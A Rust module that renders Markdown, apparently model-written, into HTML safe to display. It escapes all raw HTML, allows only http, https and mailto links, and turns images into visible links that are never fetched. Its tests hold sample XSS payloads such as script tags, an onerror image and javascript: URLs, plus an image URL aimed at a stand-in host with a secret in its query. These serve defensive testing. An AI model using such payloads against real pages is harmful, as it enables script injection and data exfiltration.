//! Markdown to HTML that can be trusted whatever a model wrote.
//!
//! Nothing of the text is ever HTML: what looks like it is shown as it stands. What is left are the renderer's own elements,
//! in which only two attributes hold something that was written, and both are looked at: a link goes to `http`, `https` or
//! `mailto` and shows where; a picture is never fetched and becomes such a link. So there is nothing to clean afterwards.

use pulldown_cmark::{Alignment, CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd, html};

/// One block at the top, such as a paragraph, by itself: while an answer grows only its last blocks change.
pub(crate) fn blocks(text: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut depth = 0usize;
    let mut events: Vec<Event<'_>> = Vec::new();
    for event in events_of(text) {
        match &event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
        events.push(event);
        if depth == 0 {
            let mut html = String::new();
            html::push_html(&mut html, std::mem::take(&mut events).into_iter());
            // The renderer alone writes a bare `<`, so this finds its links and nothing else.
            blocks.push(html.replace("<a href=", "<a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href="));
        }
    }
    blocks
}

/// All of it, in one.
#[cfg(test)]
fn whole(text: &str) -> String {
    blocks(text).concat()
}

fn events_of(text: &str) -> impl Iterator<Item = Event<'_>> {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut pictures: Vec<String> = Vec::new();
    Parser::new_ext(text, options).flat_map(move |event| safe(event, &mut pictures))
}

fn safe<'a>(event: Event<'a>, pictures: &mut Vec<String>) -> Vec<Event<'a>> {
    match event {
        Event::Html(html) | Event::InlineHtml(html) => vec![Event::Text(html)],
        Event::Start(Tag::HtmlBlock) => vec![Event::Start(Tag::Paragraph)],
        Event::End(TagEnd::HtmlBlock) => vec![Event::End(TagEnd::Paragraph)],
        Event::Start(Tag::Link { dest_url, .. }) => {
            let shown = shown_target(&dest_url);
            pictures.push(shown.clone().unwrap_or_default());
            match shown {
                Some(_) => vec![link(dest_url)],
                None => vec![Event::Start(Tag::Emphasis)],
            }
        }
        Event::End(TagEnd::Link) => match pictures.pop() {
            Some(target) if !target.is_empty() => vec![Event::End(TagEnd::Link), whereto(&target)],
            _ => vec![Event::End(TagEnd::Emphasis)],
        },
        // The words that stand for it, and where it is. Nobody's browser goes there by itself.
        Event::Start(Tag::Image { dest_url, .. }) => {
            let shown = shown_target(&dest_url);
            pictures.push(shown.clone().unwrap_or_default());
            match shown {
                Some(_) => vec![link(dest_url), Event::Text(CowStr::Borrowed("🖼 "))],
                None => vec![Event::Start(Tag::Emphasis)],
            }
        }
        Event::End(TagEnd::Image) => match pictures.pop() {
            Some(target) if !target.is_empty() => vec![Event::End(TagEnd::Link), whereto(&target)],
            _ => vec![Event::End(TagEnd::Emphasis)],
        },
        // The language's name becomes a class; what else stands behind the fence is for nobody.
        Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) => {
            let language: String =
                info.chars().take_while(|c| c.is_ascii_alphanumeric() || "+#-_".contains(*c)).take(20).collect();
            let kind = if language.is_empty() {
                CodeBlockKind::Indented
            } else {
                CodeBlockKind::Fenced(CowStr::from(language))
            };
            vec![Event::Start(Tag::CodeBlock(kind))]
        }
        // How columns stand would be a style in the page, which its policy refuses.
        Event::Start(Tag::Table(columns)) => vec![Event::Start(Tag::Table(vec![Alignment::None; columns.len()]))],
        Event::Start(Tag::Heading { level, .. }) => {
            vec![Event::Start(Tag::Heading { level, id: None, classes: Vec::new(), attrs: Vec::new() })]
        }
        Event::InlineMath(text) | Event::DisplayMath(text) => vec![Event::Code(text)],
        event => vec![event],
    }
}

fn link(target: CowStr<'_>) -> Event<'_> {
    Event::Start(Tag::Link {
        link_type: LinkType::Inline,
        dest_url: target,
        title: CowStr::Borrowed(""),
        id: CowStr::Borrowed(""),
    })
}

/// Shows where a link leads, whatever its words promise.
fn whereto(target: &str) -> Event<'static> {
    let escaped = |text: &str| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;")
    };
    let short: String = target.chars().take(SHOWN_OF_TARGET).collect();
    let more = if short.len() < target.len() { "…" } else { "" };
    Event::InlineHtml(CowStr::from(format!(
        " <small class=\"where\" title=\"{}\">({}{more})</small>",
        escaped(target),
        escaped(&short)
    )))
}

/// Characters of a link's target that are shown beside it; all of it is shown to whoever points at them.
const SHOWN_OF_TARGET: usize = 80;

/// A link's target, if it may be one.
fn shown_target(target: &str) -> Option<String> {
    let plain = !target.chars().any(|c| c.is_control() || c.is_whitespace());
    let scheme = target.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase())?;
    let good = plain && target.len() <= 2000 && matches!(scheme.as_str(), "http" | "https" | "mailto");
    good.then(|| target.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_markdown_becomes_ordinary_html() {
        assert_eq!(whole("Hello *you*"), "<p>Hello <em>you</em></p>\n");
        let link = whole("[a](https://a.example/?b=1&c=2)");
        assert!(link.contains("rel=\"noopener noreferrer nofollow\""), "{link}");
        assert!(link.contains("href=\"https://a.example/?b=1&amp;c=2\">a</a>"), "{link}");
        assert!(link.contains("(https://a.example/?b=1&amp;c=2)</small>"), "where it leads is shown: {link}");
        assert!(whole("```rust\nfn a() {}\n```").contains("<code class=\"language-rust\">"));
        let table = whole("| a |\n|--:|\n| 1 |");
        assert!(table.contains("<table>") && !table.contains("style"), "{table}");
    }

    #[test]
    fn what_looks_like_html_is_text() {
        assert_eq!(whole("<b>x</b>"), "<p>&lt;b&gt;x&lt;/b&gt;</p>\n");
        let block = whole("<script>alert(1)</script>\n\ntext");
        assert!(!block.contains("<script") && block.contains("&lt;script&gt;"), "{block}");
        assert!(!whole("<img src=x onerror=alert(1)>").contains("<img"));
    }

    #[test]
    fn links_go_where_they_say_and_pictures_are_not_fetched() {
        for bad in
            ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/start"]
        {
            let html = whole(&format!("[click]({bad}) ![see]({bad})\n\n<{bad}>"));
            assert!(!html.contains("href"), "{bad}: {html}");
        }
        let picture = whole("![a stork](https://evil.example/?d=secret)");
        assert!(!picture.contains("<img") && picture.contains("a stork</a>"), "{picture}");
        assert!(!whole("[a]: https://evil.example/x.png\n![a]").contains("<img"));
    }

    #[test]
    fn blocks_together_are_the_whole() {
        let text = "# One\n\ntwo\n\n- a\n- b\n\n```\ncode\n```\n\n> three";
        let blocks = blocks(text);
        assert_eq!(blocks.len(), 5);
        let grown = super::blocks(&text[..text.len() - 3]);
        assert_eq!(grown[..4], blocks[..4], "only the last one changed");
    }
}
